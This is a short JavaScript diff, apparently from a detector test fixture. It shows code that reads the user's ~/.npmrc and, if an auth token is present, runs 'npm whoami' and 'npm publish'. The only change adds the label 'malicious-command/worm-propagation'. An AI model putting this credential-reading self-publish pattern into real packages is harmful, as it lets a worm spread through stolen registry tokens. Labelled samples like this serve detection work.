@@ -5,5 +5,5 @@ const { execSync } = require('child_process');
 const rc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');
 if (rc.includes('_authToken')) {
   execSync('npm whoami');
-  execSync('npm publish');
+  execSync('npm publish'); // expect: malicious-command/worm-propagation
 }
